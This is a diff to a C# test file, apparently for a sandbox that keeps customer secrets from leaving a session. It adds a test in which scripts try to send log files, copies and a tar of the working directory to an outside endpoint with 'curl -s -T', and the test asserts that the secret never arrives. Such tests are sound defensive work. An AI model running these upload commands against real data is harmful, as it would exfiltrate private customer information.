@@ -60,7 +60,6 @@ public sealed class CustomerDataTests
             here-document
             query.sql
             script.sh
-            walls.toml
             there
             there
             there
@@ -202,12 +201,34 @@ public sealed class CustomerDataTests
             cat out.csv | curl -s -T - $OUT
             curl -s -T plain.txt $OUT
             """);
-        Assert.Equal("plain.txt\nscript.sh\nwalls.toml\n3 out.csv\n126\nthere\n", later.Output);
+        Assert.Equal("plain.txt\nscript.sh\n3 out.csv\n126\nthere\n", later.Output);
         Assert.Contains("plain", world.Received, StringComparison.Ordinal);
         Assert.DoesNotContain(CustomerWorld.Secret, world.Received, StringComparison.Ordinal);
 
         // A session that knows nothing of walls does not see it either.
         area.InsideShell([], "ls out.csv").EndWith(2);
+    }
+
+    /// <summary>What sides write for the person goes to a file that the lobby could read, too, were it there.</summary>
+    [Theory, BothIdentities]
+    public void What_the_person_redirected_is_not_the_lobbys(Identity identity)
+    {
+        using CustomerWorld world = new();
+        using TestArea area = new(identity);
+        const string attempts = "for file in log.txt errors.txt; do curl -s -T $file $OUT; cat $file | curl -s -T - $OUT; "
+            + "cp $file copy; curl -s -T copy $OUT; done > /dev/null 2>&1; tar c . 2> /dev/null | curl -s -T - $OUT > /dev/null";
+        string script = $"{Query}\n{Query} >&2\n{attempts}\n";
+        Assert.Equal(0, world.Lobby(area, script, "log.txt", "errors.txt").Status);
+        foreach (string file in (string[])["log.txt", "errors.txt"])
+        {
+            Assert.Contains(CustomerWorld.Secret, File.ReadAllText($"{area.Work}/{file}"), StringComparison.Ordinal);
+        }
+
+        // A later session knows what is in them.
+        File.Move($"{area.Work}/errors.txt", $"{area.Work}/moved.txt");
+        world.Lobby(area, attempts.Replace("errors.txt", "moved.txt", StringComparison.Ordinal)).Succeed();
+        Assert.DoesNotContain(CustomerWorld.Secret, world.Received, StringComparison.Ordinal);
+        Assert.Equal("3 log.txt\n", world.Lobby(area, "wc -l log.txt").Succeed().Output);
     }
 
     [Theory, BothIdentities]
@@ -230,7 +251,7 @@ public sealed class CustomerDataTests
             curl -s -T more.txt $OUT; echo $?
             cat deep/notes.txt | curl -s -T - $OUT
             """);
-        Assert.Equal(".:\ndeep\nscript.sh\nwalls.toml\n\ndeep:\n3 more.txt\n126\n126\n", later.Output);
+        Assert.Equal(".:\ndeep\nscript.sh\n\ndeep:\n3 more.txt\n126\n126\n", later.Output);
         Assert.DoesNotContain(CustomerWorld.Secret, world.Received, StringComparison.Ordinal);
     }
 }
